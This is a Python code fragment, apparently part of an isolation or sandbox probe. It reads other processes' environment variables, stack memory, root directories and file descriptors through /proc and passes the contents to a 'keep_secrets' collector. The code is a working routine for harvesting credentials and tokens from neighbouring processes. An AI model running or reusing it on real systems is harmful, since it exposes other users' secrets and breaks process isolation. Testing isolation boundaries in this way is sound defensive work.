"""Reads the environment, memory and files of other processes through /proc."""


def probe(given):
    for pid in given["pids"]:
        attempt(f"environment of {pid}", lambda: _read(f"/proc/{pid}/environ", given))
        attempt(f"memory of {pid}", lambda: _memory(pid, given))
        attempt(f"root of {pid}", lambda: os.listdir(f"/proc/{pid}/root/"))
        attempt(f"descriptors of {pid}", lambda: os.listdir(f"/proc/{pid}/fd"))


def _read(path, given):
    with open(path, "rb") as file:
        keep_secrets(file.read(), given)


def _memory(pid, given):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            if "[stack]" in line:
                start, end = (int(part, 16) for part in line.split(" ")[0].split("-"))
                memory.seek(start)
                keep_secrets(memory.read(end - start), given)
                return
    raise ValueError("no stack")
